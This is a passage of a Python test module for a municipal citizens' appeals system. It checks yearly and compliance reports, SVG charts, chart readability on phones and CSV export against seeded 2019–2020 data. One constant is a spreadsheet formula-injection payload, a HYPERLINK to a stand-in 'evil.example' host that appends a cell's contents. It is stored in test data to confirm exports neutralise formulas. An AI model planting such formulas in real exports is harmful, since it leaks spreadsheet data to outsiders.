"""Reports and open data (issue 7): the compliance report, the yearly analysis of appeals, the
information groups' summary and the monthly export, each as a page (tables, inline SVG charts)
and as CSV; the Open311 GeoReport v2 API over published answers. The data set is inserted with
SQL into a fresh stack's database in years the demo data never reaches (2019, 2020), so the test
knows every number; the applicants' surnames and addresses must never appear in any of it."""

import csv
import html
import io
import json
import os
import re
import subprocess
import tempfile
import unittest
from datetime import date

import helpers
from helpers import epoch, shown
from staff import start_staff_stack

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
STACK = None
USERS = {}
NUMBERS = {}

# Personal data of the test appeals: never in a report, an export or the API.
SECRETS = ("Сидоренкова", "Тимофеевская", "sidorenkova@private.example",
           "ул. Секретная, 13", "+7 912 000-11-22")

# An exception's reason a spreadsheet would take for a formula.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'


def at(y, m, d, hm="12:00"):
    return epoch(date(y, m, d), hm)


def insert_appeal(key, year, seq, received, topic, territory, source, status="in_work",
                  outcome=None, answer_due="2099-01-01", forward_due="2099-01-01",
                  answered=None, forwarded=None, closed=None, published=None, meeting=None):
    number = f"{year}-{seq:05d}"
    with STACK.db() as conn:
        conn.execute(
            "INSERT INTO appeal (year, seq, number, code_hash, source, addressee, surname, name, "
            "email, address, phone, territory_id, topic_code, text, received_at, registered_at, "
            "meeting_id, status, answer_due, forward_due, outcome, answered_at, forwarded_at, "
            "closed_at, answer, public_question, public_answer, published_at) VALUES "
            "(?, ?, ?, x'00', ?, 'head', ?, 'Анна', ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, "
            "?, ?, ?, ?, ?)",
            (year, seq, number, source, SECRETS[seq % 2], SECRETS[2], SECRETS[3], SECRETS[4],
             territory, topic, f"Текст обращения {key}: пишет {SECRETS[0]}", received, received,
             meeting, status, answer_due, forward_due, outcome, answered, forwarded, closed,
             "Ответ заявителю" if answered else "",
             f"Публичный вопрос {key}" if published else "",
             f"Публичный ответ {key}" if published else "", published))
    NUMBERS[key] = number


def insert_meeting(kind, title, starts, status="held", territory=4, group=None, attendance=None,
                   exception=""):
    with STACK.db() as conn:
        cur = conn.execute(
            "INSERT INTO meeting (kind, title, territory_id, starts_at, ends_at, status, "
            "attendance, group_id, exception_reason) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
            (kind, title, territory, starts, starts + 7200, status, attendance, group, exception))
        return cur.lastrowid


def insert_protocol(meeting, held, signed=None, handed=None):
    """A protocol of MEETING held on local date HELD, signed and handed at the given epochs."""
    with STACK.db() as conn:
        cur = conn.execute(
            "INSERT INTO protocol (meeting_id, held_on, created_at, updated_at, signed_at, "
            "handed_at) VALUES (?, ?, ?, ?, ?, ?)",
            (meeting, held.isoformat(), epoch(held, "18:00"), epoch(held, "18:00"), signed,
             handed))
        return cur.lastrowid


def insert_instruction(text, due, status, protocol=None, appeal=None, reported=None):
    """An instruction to the demo executor, controlled by the demo controller; REPORTED is the
    epoch of the executor's report (an instruction_event), if any."""
    with STACK.db() as conn:
        executor, = conn.execute("SELECT id FROM staff_user WHERE login = 'executor'").fetchone()
        controller, = conn.execute(
            "SELECT id FROM staff_user WHERE login = 'controller'").fetchone()
        created = at(2020, 1, 2)
        cur = conn.execute(
            "INSERT INTO instruction (protocol_id, appeal_id, text, executor_id, unit, "
            "controller_id, due_on, status, created_at, updated_at) "
            "VALUES (?, ?, ?, ?, 'Отдел ЖКХ', ?, ?, ?, ?, ?)",
            (protocol, appeal, text, executor, controller, due, status, created, created))
        if reported:
            conn.execute("INSERT INTO instruction_event (instruction_id, at, user_id, status) "
                         "VALUES (?, ?, ?, 'reported')", (cur.lastrowid, reported, executor))


def setUpModule():
    global STACK
    STACK, _, signed = start_staff_stack()
    USERS.update(signed)
    try:
        build_data()
    except BaseException:
        STACK.close()
        raise


def tearDownModule():
    STACK.close()


def build_data():
    # The demo's published answer would be in Open311's default window: this data set is the
    # only one the tests count.
    STACK.execute("UPDATE appeal SET published_at = NULL")
    # The demo's two information groups, created when the data set says: group 1 in the middle
    # of the fourth quarter of 2019, group 2 in the middle of the second quarter of 2020. A
    # quarter before a group's creation is never one it missed.
    STACK.execute("UPDATE info_group SET created_at = ? WHERE id = 1", (at(2019, 10, 15),))
    STACK.execute("UPDATE info_group SET created_at = ? WHERE id = 2", (at(2020, 5, 10),))
    # Meetings of the first half of 2020 (and one in the second).
    head = insert_meeting("head_mass", "Отчёт главы перед жителями", at(2020, 2, 15))
    insert_meeting("personal_reception", "Личный приём главы", at(2020, 1, 20))
    reception = insert_meeting("personal_reception", "Личный приём главы 16 марта",
                               at(2020, 3, 16))
    m1 = insert_meeting("group_field", "Выездная встреча группы 1", at(2020, 3, 11), group=1,
                        attendance=25)
    m2 = insert_meeting("group_field", "Вторая встреча группы 1", at(2020, 5, 20), group=1,
                        attendance=15)
    insert_meeting("group_field", "Отменённая встреча группы 1", at(2020, 6, 1), group=1,
                   status="cancelled")
    m3 = insert_meeting("group_field", "Встреча группы 2", at(2020, 8, 10), territory=6, group=2,
                        attendance=40)

    # Protocols. 2020 has no production calendar, so its working days are Monday–Friday minus
    # the holidays of art. 112; a group's field meeting is handed over 5 of them after the meeting
    # (regulation № 44 on information groups §3.6.9): the one of 1 November 2019 is due on
    # 11 November, across the holiday of 4 November. The head's meetings and receptions have protocols
    # but no act sets a handover deadline for them (order № 2 of the Zelenoborsk head §4.1 sets
    # none): they are never late (issue 21, item 8).
    insert_meeting("group_field", "Встреча группы 1 без протокола", at(2019, 11, 1), group=1,
                   attendance=10)
    insert_meeting("head_mass", "Встреча главы без протокола", at(2019, 12, 20))
    signed = at(2020, 1, 2)
    p1 = insert_protocol(m1, date(2020, 3, 11), signed,          # due 18 March: on the day
                         at(2020, 3, 18, "17:00"))
    insert_protocol(reception, date(2020, 3, 16), signed,        # due 23 March: a day late
                    at(2020, 3, 24, "09:00"))
    p2 = insert_protocol(m2, date(2020, 5, 20), signed,          # due 27 May: 5 days late
                         at(2020, 6, 1))
    insert_protocol(head, date(2020, 2, 15), signed)             # due 21 February: not handed
    p3 = insert_protocol(m3, date(2020, 8, 10), signed, at(2020, 8, 12))
    late = insert_meeting("group_field", "Встреча с опозданием анонса", at(2020, 4, 5),
                          status="approved", territory=6)
    with STACK.db() as conn:
        conn.execute("INSERT INTO rule_violation (meeting_id, rule, starts_at, deadline_at, "
                     "detected_at) VALUES (?, 'announce_5_days', ?, ?, ?)",
                     (late, at(2020, 4, 5), at(2020, 3, 31, "00:00"), at(2020, 3, 31, "00:00")))
    insert_meeting("head_mass", "Встреча о паводке", at(2020, 5, 5), status="approved",
                   exception="Срочный вопрос о паводке")
    # Staff free text that a spreadsheet would run as a formula (a cancelled meeting of no
    # group, so that it counts nowhere but in the 2019 list of exceptions).
    insert_meeting("group_field", "@Встреча с формулой", at(2019, 3, 1), status="cancelled",
                   exception=FORMULA)

    # Appeals of 2020 and of 2019.
    insert_appeal("A1", 2020, 1, at(2020, 2, 10), "0005.0005.0056", 4, "online",
                  status="answered", outcome="answered", answer_due="2020-03-10",
                  answered=at(2020, 3, 5), closed=at(2020, 3, 5), published=at(2020, 3, 6))
    insert_appeal("A2", 2020, 2, at(2020, 3, 11), "0005.0005.0055", 4, "meeting",
                  status="answered", outcome="answered", answer_due="2020-04-10",
                  answered=at(2020, 4, 20), closed=at(2020, 4, 20), meeting=m1)
    insert_appeal("A3", 2020, 3, at(2020, 3, 9), "0003.0009.0099", 6, "mail",
                  status="forwarded", outcome="forwarded", forward_due="2020-03-14",
                  forwarded=at(2020, 3, 12), closed=at(2020, 3, 12))
    insert_appeal("A4", 2020, 4, at(2020, 4, 1), None, None, "reception",
                  answer_due="2020-05-01")
    insert_appeal("A5", 2020, 5, at(2020, 3, 15), "0005.0005.0056", 6, "online",
                  status="closed", outcome="repeated", closed=at(2020, 3, 20))
    # Forwarded by competence 7 days after its forwarding date due (8 April).
    insert_appeal("A6", 2020, 6, at(2020, 4, 1), "0003.0009.0099", 6, "mail",
                  status="forwarded", outcome="forwarded", forward_due="2020-04-08",
                  forwarded=at(2020, 4, 15), closed=at(2020, 4, 15))
    insert_appeal("B1", 2019, 1, at(2019, 5, 10), "0005.0005.0056", 4, "online",
                  status="answered", outcome="answered", answer_due="2019-06-10",
                  answered=at(2019, 6, 1), closed=at(2019, 6, 1), published=at(2019, 6, 2))
    insert_appeal("B2", 2019, 2, at(2019, 6, 1), "0003.0009.0099", 4, "mail",
                  status="answered", outcome="answered", answer_due="2019-07-01",
                  answered=at(2019, 6, 20), closed=at(2019, 6, 20))
    # Instructions: executed on the executor's report by the due date, or late.
    insert_instruction("Отремонтировать освещение", "2020-03-20", "accepted", protocol=p1,
                       reported=at(2020, 3, 19))
    insert_instruction("Вывезти мусор со двора", "2020-03-25", "accepted", protocol=p1,
                       reported=at(2020, 3, 27))                 # 2 days late
    insert_instruction("Проверить подвал", "2020-04-01", "reported", protocol=p1,
                       reported=at(2020, 3, 31))                 # on time, not yet accepted
    insert_instruction("Покрасить скамейки", "2020-06-10", "in_progress", protocol=p2)
    insert_instruction("Ответить по отоплению", "2020-05-15", "returned",
                       appeal=appeal_id("A2"), reported=at(2020, 5, 10))
    insert_instruction("Отменённое поручение", "2020-04-30", "cancelled", appeal=appeal_id("A2"))
    insert_instruction("Отменённое поручение группы", "2020-03-30", "cancelled", protocol=p1)
    insert_instruction("Поручение второго полугодия", "2020-07-15", "in_progress",
                       appeal=appeal_id("A4"))
    insert_instruction("Спилить сухое дерево", "2020-08-20", "accepted", protocol=p3,
                       reported=at(2020, 8, 19))

    # Recent ones for the API's default window: one published, one not.
    recent = helpers.day(-10)
    insert_appeal("C1", 2000, 1, epoch(recent, "09:30"), "0003.0009.0099", 6, "online",
                  status="answered", outcome="answered", answered=epoch(recent, "15:00"),
                  closed=epoch(recent, "15:00"), published=epoch(recent, "16:00"))
    insert_appeal("C2", 2000, 2, epoch(recent, "10:00"), "0003.0009.0099", 6, "online")


def appeal_id(key):
    return STACK.query("SELECT id FROM appeal WHERE number = ?", (NUMBERS[key],))[0][0]


# ---- reading the reports ------------------------------------------------------------------------
def report_table(page, table_id):
    """[(label, [cells], is_total)] of the report table TABLE_ID."""
    m = re.search(rf'<table class="list report" id="table-{table_id}">(.*?)</table>', page, re.S)
    assert m, f"no table {table_id}"
    rows = []
    for attrs, tr in re.findall(r"<tr( class=\"total\")?>(<th scope=\"row\">.*?)</tr>",
                                m.group(1), re.S):
        label = re.search(r'<th scope="row">(.*?)</th>', tr, re.S).group(1)
        cells = re.findall(r"<td>(.*?)</td>", tr, re.S)
        rows.append((html.unescape(label), [html.unescape(c) for c in cells], bool(attrs)))
    return rows


def as_dict(rows):
    return {label: cells for label, cells, _ in rows}


def bar_titles(page, table_id):
    """The <title> of every bar in the chart of TABLE_ID's section."""
    m = re.search(rf'<section class="report-block" aria-labelledby="t-{table_id}">(.*?)</section>',
                  page, re.S)
    assert m, f"no section {table_id}"
    return [html.unescape(t) for t in
            re.findall(r'<g class="bar"><title>(.*?)</title>', m.group(1), re.S)]


def bars(page, table_id):
    """[[(class or None, width %, number), …] per row] of the chart of TABLE_ID's section."""
    m = re.search(rf'<section class="report-block" aria-labelledby="t-{table_id}">(.*?)</section>',
                  page, re.S)
    assert m, f"no section {table_id}"
    rows = []
    for g in re.findall(r'<g class="bar">(.*?)</g>', m.group(1), re.S):
        row, pending = [], None
        for kind, attrs in re.findall(r"<(rect|text) ([^>]*)", g):
            if kind == "rect":
                pending = (re.search(r'class="(\w+)"', attrs).group(1),
                           float(re.search(r'width="([\d.]+)%"', attrs).group(1)))
            elif 'class="bar-value"' in attrs:
                x = float(re.search(r'x="([\d.]+)%"', attrs).group(1))
                value = re.search(rf'{re.escape(attrs)}>(.*?)</text>', g).group(1)
                cls, width = pending if pending else (None, 0.0)
                assert width == x, (width, x)  # the number right after its bar
                row.append((cls, width, value))
                pending = None
        rows.append(row)
    return rows


def csv_blocks(body):
    """{caption: [header, rows…]} of a report's CSV after checking BOM, separator and CRLF."""
    assert body.startswith(b"\xef\xbb\xbf"), body[:10]
    text = body.decode("utf-8-sig")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    records = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    blocks, current = {}, None
    for rec in records[1:]:
        if not rec:
            current = None
        elif current is None:
            current = rec[0]
            blocks[current] = []
        else:
            blocks[current].append(rec)
    return records[0], blocks


def assert_no_personal_data(test, text):
    for secret in SECRETS:
        test.assertNotIn(secret, text)


class AppealsReportTest(unittest.TestCase):
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        r = USERS["admin"].get("/admin/reports/appeals?year=2020")
        assert r.status == 200, (r.status, r.text[-2000:])
        cls.page = r.text

    def test_by_section_with_the_previous_year_and_the_change(self):
        rows = report_table(self.page, "sections")
        self.assertEqual(rows, [
            ("0003 Экономика", ["1", "2", "+1"], False),
            ("0005 Жилищно-коммунальная сфера", ["1", "3", "+2"], False),
            ("Тема не указана", ["0", "1", "+1"], False),
            ("Всего", ["2", "6", "+4"], True),
        ])
        self.assertIn('<th scope="col">2019</th><th scope="col">2020</th>', self.page)

    def test_by_topic_of_the_classifier(self):
        self.assertEqual(report_table(self.page, "topics"), [
            ("0003.0009.0099 Транспорт", ["1", "2", "+1"], False),
            ("0005.0005.0055 Жилищный фонд", ["0", "1", "+1"], False),
            ("0005.0005.0056 Коммунальное хозяйство", ["1", "2", "+1"], False),
            ("Тема не указана", ["0", "1", "+1"], False),
            ("Всего", ["2", "6", "+4"], True),
        ])

    def test_by_territory_source_outcome_and_timeliness(self):
        self.assertEqual(as_dict(report_table(self.page, "territories")), {
            "микрорайон Молодёжный": ["2", "2", "0"],
            "сельское поселение Берёзовка": ["0", "3", "+3"],
            "Территория не указана": ["0", "1", "+1"],
            "Всего": ["2", "6", "+4"],
        })
        sources = as_dict(report_table(self.page, "sources"))
        self.assertEqual(sources["через сайт"], ["1", "2", "+1"])
        self.assertEqual(sources["на встречах с жителями"], ["0", "1", "+1"])
        self.assertEqual(sources["на личном приёме"], ["0", "1", "+1"])
        self.assertEqual(sources["по почте и лично в администрации"], ["1", "2", "+1"])
        outcomes = as_dict(report_table(self.page, "outcomes"))
        self.assertEqual(outcomes["дан ответ по существу"], ["2", "2", "0"])
        self.assertEqual(outcomes["направлено по компетенции"], ["0", "2", "+2"])
        self.assertEqual(outcomes["без ответа: повторное без новых доводов"], ["0", "1", "+1"])
        self.assertEqual(outcomes["без ответа: оскорбительные выражения"], ["0", "0", "0"])
        self.assertEqual(outcomes["на рассмотрении"], ["0", "1", "+1"])
        timely = as_dict(report_table(self.page, "timeliness"))
        self.assertEqual(timely["ответ дан в срок"], ["2", "1", "−1"])
        self.assertEqual(timely["ответ дан с нарушением срока"], ["0", "1", "+1"])
        self.assertEqual(timely["направлено по компетенции в срок"], ["0", "1", "+1"])
        self.assertEqual(timely["направлено по компетенции с нарушением срока"], ["0", "1", "+1"])
        self.assertEqual(timely["оставлено без ответа по существу (ст. 11 59-ФЗ)"],
                         ["0", "1", "+1"])
        self.assertEqual(timely["на рассмотрении, срок истёк"], ["0", "1", "+1"])
        self.assertEqual(timely["Всего"], ["2", "6", "+4"])

    def test_charts_compare_the_two_years(self):
        self.assertEqual(bar_titles(self.page, "sections"), [
            "0003 Экономика: 2019 — 1, 2020 — 2",
            "0005 Жилищно-коммунальная сфера: 2019 — 1, 2020 — 3",
            "Тема не указана: 2019 — 0, 2020 — 1"])
        self.assertIn('role="img"', self.page)
        self.assertNotIn("<script", self.page)
        # Each row: the previous year's bar (outlined) above this year's; the longest bar is
        # the largest number of either year, the others in proportion; a zero has no bar but
        # its number.
        self.assertEqual(bars(self.page, "sections"), [
            [("before", 21.7, "1"), ("now", 43.3, "2")],
            [("before", 21.7, "1"), ("now", 65.0, "3")],
            [(None, 0.0, "0"), ("now", 21.7, "1")]])
        for table in ("topics", "territories", "sources", "outcomes", "timeliness"):
            self.assertTrue(bars(self.page, table), table)
        self.assertIn("Контурный столбец — «2019», залитый — «2020».", self.page)

    def test_the_visually_impaired_version_has_the_same_numbers(self):
        path = "/admin/reports/appeals?year=2020"
        r = STACK.get(path, headers={"Cookie": USERS["admin"].cookie_header(path) + "; vision=on"})
        self.assertEqual(r.status, 200)
        self.assertIn('class="vision"', r.text)
        self.assertEqual(report_table(r.text, "sections"), report_table(self.page, "sections"))

    def test_csv_download(self):
        r = USERS["admin"].get("/admin/reports/appeals?year=2020&format=csv")
        self.assertEqual(r.status, 200)
        self.assertEqual(r.header("Content-Type"), "text/csv; charset=utf-8")
        disposition = r.header("Content-Disposition")
        self.assertTrue(disposition.startswith('attachment; filename="appeals-2020.csv"; '
                                               "filename*=UTF-8''"), disposition)
        self.assertIn("%D0%B0%D0%BD%D0%B0%D0%BB%D0%B8%D0%B7", disposition)  # «анализ»
        head, blocks = csv_blocks(r.body)
        self.assertEqual(head, ["Анализ обращений граждан за год", "2020 год в сравнении с 2019 годом"])
        # The change is a plain integer a spreadsheet reads as a number: no «+», no U+2212.
        sections = blocks["По разделам тематического классификатора"]
        self.assertEqual(sections, [
            ["Раздел", "2019", "2020", "Изменение"],
            ["0003 Экономика", "1", "2", "1"],
            ["0005 Жилищно-коммунальная сфера", "1", "3", "2"],
            ["Тема не указана", "0", "1", "1"],
            ["Всего", "2", "6", "4"],
        ])
        self.assertEqual(blocks["Соблюдение сроков (ст. 8 и 12 59-ФЗ)"][1],
                         ["ответ дан в срок", "2", "1", "-1"])
        self.assertEqual(blocks["По территориям"][2], ["сельское поселение Берёзовка", "0", "3", "3"])
        self.assertEqual(blocks["По тематикам и темам классификатора"][1],
                         ["0003.0009.0099 Транспорт", "1", "2", "1"])
        assert_no_personal_data(self, r.body.decode("utf-8"))
        assert_no_personal_data(self, self.page)

    def test_a_format_other_than_csv_is_400(self):
        self.assertEqual(USERS["admin"].get("/admin/reports/appeals?format=xls").status, 400)
        self.assertEqual(USERS["admin"].get("/admin/reports/appeals?year=1999").status, 400)


# Chart text as a 320 CSS px screen shows it, measured in headless Chromium (playwright-core of
# tests/web, installed by `make test`): the rendered font size of every label and number, and
# whether any runs past the chart's right edge.
MEASURE_JS = r"""
const path = require('path');
const [url, cookiesJson, webdir, vision] = process.argv.slice(2);
const { chromium } = require(path.join(webdir, 'node_modules', 'playwright-core'));
(async () => {
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'] });
  const ctx = await browser.newContext({ viewport: { width: 320, height: 800 } });
  const cookies = JSON.parse(cookiesJson);
  if (vision === 'on') cookies.push({ name: 'vision', value: 'on' });
  await ctx.addCookies(cookies.map((c) => ({ ...c, url: new URL('/', url).href })));
  const page = await ctx.newPage();
  await page.goto(url);
  const result = await page.evaluate(() => {
    const texts = [...document.querySelectorAll('figure.chart svg text')];
    let min = Infinity;
    const overflow = [];
    for (const t of texts) {
      const svg = t.ownerSVGElement;
      min = Math.min(min, parseFloat(getComputedStyle(t).fontSize) * svg.getScreenCTM().a);
      if (t.getBoundingClientRect().right > svg.getBoundingClientRect().right + 0.5)
        overflow.push(t.textContent);
    }
    return { texts: texts.length, minFontPx: min, overflow,
             vision: document.documentElement.classList.contains('vision') };
  });
  await browser.close();
  console.log(JSON.stringify(result));
})().catch((e) => { console.error(e); process.exit(1); });
"""


class ChartReadabilityTest(unittest.TestCase):
    """Chart labels scaled with a 640-unit drawing came out about 6px on a phone."""

    def measure(self, path, vision):
        web = os.path.join(ROOT, "tests", "web")
        self.assertTrue(os.path.isdir(os.path.join(web, "node_modules", "playwright-core")),
                        "tests/web/node_modules is missing: run make deps-test")
        with tempfile.NamedTemporaryFile("w", suffix=".cjs", delete=False) as f:
            f.write(MEASURE_JS)
        try:
            cookies = [{"name": k, "value": c["value"]} for k, c in USERS["admin"].jar.items()]
            p = subprocess.run(["node", f.name, STACK.base + path, json.dumps(cookies), web,
                                "on" if vision else "off"],
                               capture_output=True, text=True, timeout=120)
        finally:
            os.unlink(f.name)
        self.assertEqual(p.returncode, 0, p.stderr[-2000:])
        result = json.loads(p.stdout)
        self.assertEqual(result["vision"], vision)
        return result

    def test_chart_text_is_readable_on_a_320px_screen(self):
        for path in ("/admin/reports/appeals?year=2020",
                     "/admin/reports/compliance?from=2020-01-01&to=2020-12-31"):
            for vision, smallest in ((False, 13), (True, 22)):
                m = self.measure(path, vision)
                self.assertGreater(m["texts"], 20, (path, vision))
                self.assertGreaterEqual(m["minFontPx"], smallest, (path, vision, m))
                self.assertEqual(m["overflow"], [], (path, vision))


class ComplianceReportTest(unittest.TestCase):
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        r = USERS["controller"].get("/admin/reports/compliance?from=2020-01-01&to=2020-06-30")
        assert r.status == 200, (r.status, r.text[-2000:])
        cls.page = r.text

    def get(self, query):
        r = USERS["controller"].get(f"/admin/reports/compliance?{query}")
        self.assertEqual(r.status, 200, r.text[-2000:])
        return r.text

    def assert_summary_agrees(self, page):
        """The summary's meetings are the tables' «from them in the report's period» totals."""
        summary = as_dict(report_table(page, "summary"))
        for name, table in (("Встречи главы с массовым участием жителей: проведено", "head-mass"),
                            ("Личные приёмы главы: проведено", "reception"),
                            ("Выездные встречи информационных групп: проведено", "groups")):
            total = as_dict(report_table(page, table))["Итого"]
            part = total[3] if table == "groups" else total[1]  # «из них в периоде отчёта»
            self.assertEqual(summary[name], [part], (name, total))

    def test_the_summary(self):
        overdue_days = (helpers.today() - date(2020, 5, 1)).days
        self.assertEqual(report_table(self.page, "summary"), [
            ("Встречи главы с массовым участием жителей: проведено", ["1"], False),
            ("Личные приёмы главы: проведено", ["2"], False),
            ("Выездные встречи информационных групп: проведено", ["2"], False),
            ("Нарушения правила 5 дней", ["1"], False),
            ("Встречи, утверждённые в порядке исключения", ["1"], False),
            ("Протоколы, переданные в сектор контроля позже срока", ["1"], False),
            ("Протоколы не переданы, срок истёк (на сегодня)", ["0"], False),
            ("Ответы на обращения и направления по компетенции позже срока", ["2"], False),
            ("Обращения без ответа, срок истёк (на сегодня)", ["1"], False),
            ("Поручения, не исполненные в срок", ["3"], False),
            ("План мероприятий: периодов выполнено", ["2"], False),
            ("План мероприятий: периодов не выполнено", ["18"], False),
            ("План мероприятий: периодов идёт", ["0"], False),
        ])
        self.assertNotIn("появятся", self.page)
        self.assertEqual(report_table(self.page, "overdue"), [
            (NUMBERS["A4"], ["", "1 мая 2020 г.", str(overdue_days)], False)])
        self.assert_summary_agrees(self.page)

    def test_frequencies_by_calendar_period(self):
        self.assertEqual(report_table(self.page, "head-mass"), [
            ("2020 год", ["1", "1", "1", "выполнено"], False),
            ("Итого", ["1", "1", "1", ""], True)])
        reception = report_table(self.page, "reception")
        self.assertEqual([r[0] for r in reception],
                         ["январь 2020 г.", "февраль 2020 г.", "март 2020 г.", "апрель 2020 г.",
                          "май 2020 г.", "июнь 2020 г.", "Итого"])
        self.assertEqual([r[1][0] for r in reception], ["1", "0", "1", "0", "0", "0", "2"])
        self.assertEqual(reception[1][1][3], "не выполнено")
        # The groups' table has the planned meetings like the others. Group 2, created on
        # 10 May, has no quarter to account for yet: a part of a quarter is not one.
        self.assertEqual(report_table(self.page, "groups"), [
            ("Информационная группа № 1", ["2", "2", "2", "2", "0", "—"], False),
            ("Информационная группа № 2", ["0", "0", "0", "0", "0", "—"], False),
            ("Итого", ["2", "2", "2", "2", "0", ""], True)])
        self.assertIn("<th scope=\"col\">Назначено</th><th scope=\"col\">Прошедшие кварталы",
                      self.page)
        self.assertEqual(bar_titles(self.page, "groups"),
                         ["Информационная группа № 1: 2", "Информационная группа № 2: 0"])

    def test_a_whole_year_counts_the_quarters_after_a_group_was_created(self):
        page = self.get("from=2020-01-01&to=2020-12-31")
        self.assertEqual(as_dict(report_table(page, "groups")), {
            "Информационная группа № 1": ["4", "2", "2", "2", "0", "III кв. 2020, IV кв. 2020"],
            "Информационная группа № 2": ["2", "1", "1", "1", "0", "IV кв. 2020"],
            "Итого": ["6", "3", "3", "3", "0", ""]})

    def test_a_period_inside_quarters(self):
        """20 March – 25 May 2020: whole calendar periods in the rows, the report's part of
        them beside, and the summary equal to that part."""
        page = self.get("from=2020-03-20&to=2020-05-25")
        self.assertIn("с 20 марта 2020 г. по 25 мая 2020 г.", page)
        self.assertEqual(report_table(page, "head-mass"), [
            ("2020 год", ["1", "0", "1", "выполнено"], False),
            ("Итого", ["1", "0", "1", ""], True)])
        self.assertEqual(report_table(page, "reception"), [
            ("март 2020 г.", ["1", "0", "0", "выполнено"], False),
            ("апрель 2020 г.", ["0", "0", "0", "не выполнено"], False),
            ("май 2020 г.", ["0", "0", "0", "не выполнено"], False),
            ("Итого", ["1", "0", "0", ""], True)])
        self.assertEqual(as_dict(report_table(page, "groups")), {
            "Информационная группа № 1": ["2", "2", "2", "1", "0", "—"],
            "Информационная группа № 2": ["0", "0", "0", "0", "0", "—"],
            "Итого": ["2", "2", "2", "1", "0", ""]})
        summary = as_dict(report_table(page, "summary"))
        self.assertEqual([summary[k][0] for k in summary], [
            "0", "0", "1", "1", "1", "1", "0", "2", "1", "2", "1", "16", "0"])
        self.assert_summary_agrees(page)
        self.assertEqual([row[0] for row in report_table(page, "answered-late")],
                         [NUMBERS["A6"], NUMBERS["A2"]])
        self.assertEqual([row[0] for row in report_table(page, "protocols-late")],
                         ["Вторая встреча группы 1"])
        self.assertEqual([row[0] for row in report_table(page, "instructions-late")],
                         ["Вывезти мусор со двора", "Ответить по отоплению"])

    def test_a_period_across_the_new_year(self):
        """15 November 2019 – 14 February 2020: two calendar years, four months, two quarters;
        group 2 did not exist yet."""
        page = self.get("from=2019-11-15&to=2020-02-14")
        self.assertEqual(report_table(page, "head-mass"), [
            ("2019 год", ["1", "1", "0", "выполнено"], False),
            ("2020 год", ["1", "0", "1", "выполнено"], False),
            ("Итого", ["2", "1", "1", ""], True)])
        self.assertEqual(report_table(page, "reception"), [
            ("ноябрь 2019 г.", ["0", "0", "0", "не выполнено"], False),
            ("декабрь 2019 г.", ["0", "0", "0", "не выполнено"], False),
            ("январь 2020 г.", ["1", "1", "0", "выполнено"], False),
            ("февраль 2020 г.", ["0", "0", "0", "не выполнено"], False),
            ("Итого", ["1", "1", "0", ""], True)])
        self.assertEqual(report_table(page, "groups"), [
            ("Информационная группа № 1", ["2", "2", "2", "0", "0", "—"], False),
            ("Итого", ["2", "2", "2", "0", "0", ""], True)])
        summary = as_dict(report_table(page, "summary"))
        self.assertEqual(summary["Встречи главы с массовым участием жителей: проведено"], ["1"])
        self.assertEqual(summary["Личные приёмы главы: проведено"], ["1"])
        self.assertEqual(summary["Выездные встречи информационных групп: проведено"], ["0"])
        self.assert_summary_agrees(page)

    def test_violations_exceptions_and_late_answers(self):
        self.assertEqual(report_table(self.page, "violations"), [
            ("Встреча с опозданием анонса", ["5 апреля 2020 г.", "30 марта 2020 г.",
                                             "утверждена"], False)])
        self.assertEqual(report_table(self.page, "exceptions"), [
            ("Встреча о паводке", ["5 мая 2020 г.", "Срочный вопрос о паводке"], False)])
        # Late forwarding by competence is late too, as in the yearly timeliness table.
        self.assertEqual(report_table(self.page, "answered-late"), [
            (NUMBERS["A6"], ["Транспорт", "направлено по компетенции", "8 апреля 2020 г.",
                             "15 апреля 2020 г.", "7"], False),
            (NUMBERS["A2"], ["Жилищный фонд", "дан ответ", "10 апреля 2020 г.",
                             "20 апреля 2020 г.", "10"], False)])

    def test_protocols_handed_over_late_or_not_at_all(self):
        since = lambda d: str((helpers.today() - d).days)  # noqa: E731
        self.assertEqual(report_table(self.page, "protocols-late"), [
            ("Вторая встреча группы 1", ["20 мая 2020 г.", "27 мая 2020 г.",
                                         "передан 1 июня 2020 г.", "5"], False),
        ])
        # Handed over on the due date itself is in time; the head's report (not handed) and a
        # personal reception (handed a week later) are not late: their acts set no deadline.
        labels = [row[0] for row in report_table(self.page, "protocols-late")]
        self.assertNotIn("Выездная встреча группы 1", labels)
        self.assertNotIn("Личный приём главы", labels)
        self.assertNotIn("Отчёт главы перед жителями", labels)
        self.assertNotIn("Личный приём главы 16 марта", labels)
        page = USERS["controller"].get(
            "/admin/reports/compliance?from=2019-01-01&to=2019-12-31").text
        self.assertEqual(report_table(page, "protocols-late"), [
            ("Встреча группы 1 без протокола", ["1 ноября 2019 г.", "11 ноября 2019 г.",
                                                "протокол не составлен",
                                                since(date(2019, 11, 11))], False)])
        self.assertEqual(as_dict(report_table(page, "summary"))[
            "Протоколы не переданы, срок истёк (на сегодня)"], ["1"])
        # Group 1 was created in the middle of the fourth quarter and met in it: that quarter
        # counts; the three before it do not, and group 2, created in 2020, is not there.
        self.assertEqual(report_table(page, "groups"), [
            ("Информационная группа № 1", ["1", "1", "1", "1", "0", "—"], False),
            ("Итого", ["1", "1", "1", "1", "0", ""], True)])

    def test_instructions_not_executed_in_time(self):
        self.assertEqual(report_table(self.page, "instructions-late"), [
            ("Вывезти мусор со двора", ["протокол встречи «Выездная встреча группы 1»",
                                        "Отдел ЖКХ", "25 марта 2020 г.",
                                        "исполнено, доложено 27 марта 2020 г.", "2"], False),
            ("Ответить по отоплению", [f"обращение № {NUMBERS['A2']}", "Отдел ЖКХ",
                                       "15 мая 2020 г.", "возвращено на доработку",
                                       str((helpers.today() - date(2020, 5, 15)).days)], False),
            ("Покрасить скамейки", ["протокол встречи «Вторая встреча группы 1»", "Отдел ЖКХ",
                                    "10 июня 2020 г.", "в работе",
                                    str((helpers.today() - date(2020, 6, 10)).days)], False),
        ])
        # A period that ends before the late report: the report is still counted from the day
        # it was made, and an instruction due outside the period is not in it.
        page = USERS["controller"].get(
